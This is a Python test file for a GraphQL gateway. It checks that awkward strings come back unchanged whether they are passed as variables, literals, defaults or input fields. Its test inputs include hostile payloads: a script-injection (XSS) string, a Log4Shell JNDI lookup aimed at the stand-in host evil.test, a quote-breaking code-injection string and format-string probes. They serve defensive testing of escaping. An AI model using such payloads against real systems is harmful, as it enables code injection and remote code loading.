"""Text of strangers through code that is generated from documents and records: it comes out as it went in, by whichever way."""

from __future__ import annotations

from typing import Any

import orjson
import pytest
import strawberry

from gateway import entity, resolver
from gateway.graph import build_graph
from gateway.settings import Settings
from gateway.testing import GatewayUnderTest, in_virtual_time
from tests.unit.execution.hostile import HOSTILE

TEXTS = [
    *HOSTILE,
    '"""\' + exit() + \'"""',
    "{__builtins__}",
    "%(a)s %s %n",
    "\u2028\u2029\u0085",
    "\0\x1b[2J",
    "\U0001f600",
    "</script><script>alert(1)</script>",
    "\\u0022",
    "${jndi:ldap://evil.test}",
]


@strawberry.input
class Told:
    """What is said."""

    text: str = "\"'\\\n{0}%s"
    more: list[str] = strawberry.field(default_factory=list)


@entity
class Echo:
    """What was heard."""

    text: str
    more: list[str]


@entity
class Query:
    """The root."""

    @resolver
    def echo(self, text: str = "\"'\\\n{0}%s", more: list[str] | None = None, told: Told | None = None) -> Echo:
        """As it is."""
        return Echo(text=told.text if told else text, more=(told.more if told else more) or [])


GRAPH = build_graph(Query)
ASKS = {
    "a variable": ("query ($t: String!) { echo(text: $t, more: [$t]) { text more } }", True),
    "a literal": ("{ echo(text: %s, more: [%s]) { text more } }", False),
    "a default": ("query ($t: String! = %s) { echo(text: $t, more: [%s]) { text more } }", False),
    "an input's member": ("query ($t: String!) { echo(told: {text: $t, more: [$t]}) { text more } }", True),
}


@pytest.mark.parametrize(("document", "is_variable"), ASKS.values(), ids=list(ASKS))
@in_virtual_time
async def test_a_text_comes_out_as_it_went_in_at_first_and_by_a_plan(document: str, is_variable: bool) -> None:
    async with GatewayUnderTest(Settings.model_validate({}), GRAPH, wires={}) as gateway:
        for text in TEXTS:
            quoted = orjson.dumps(text).decode()
            asked: Any = {"t": text} if is_variable else {}
            written = document if is_variable else document % (quoted, quoted)
            found = [await gateway.execute(written, asked) for _ in range(3)]
            assert [each.json for each in found] == [{"data": {"echo": {"text": text, "more": [text]}}}] * 3


@in_virtual_time
async def test_a_default_of_an_author_comes_out_as_it_was_written() -> None:
    async with GatewayUnderTest(Settings.model_validate({}), GRAPH, wires={}) as gateway:
        found = [await gateway.execute("{ echo { text } b: echo(told: {}) { text } }") for _ in range(3)]
    assert [each.data for each in found] == [{"echo": {"text": "\"'\\\n{0}%s"}, "b": {"text": "\"'\\\n{0}%s"}}] * 3
